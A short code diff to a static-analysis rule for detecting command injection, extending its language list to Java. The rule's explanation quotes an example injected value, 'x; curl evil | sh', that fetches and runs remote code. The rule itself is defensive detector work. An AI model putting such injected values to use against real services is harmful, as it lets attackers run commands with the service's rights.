@@ -103,7 +103,7 @@ def _evidence(view: FileView, call: m.Call, value: Value) -> tuple[Evidence, ...
 RULE = Rule(
     id="security/command-injection",
     severity=Severity.ERROR,
-    languages=("python", "javascript", "typescript", "go"),
+    languages=("python", "javascript", "typescript", "go", "java"),
     title="Shell command built from values",
     what="Text that is not constant and reaches a shell (`shell=True`, `os.system`, `exec`, `sh -c`), or a request that chooses the program to start.",
     why="A value such as `x; curl evil | sh` becomes a second command that runs with the rights of this service.",
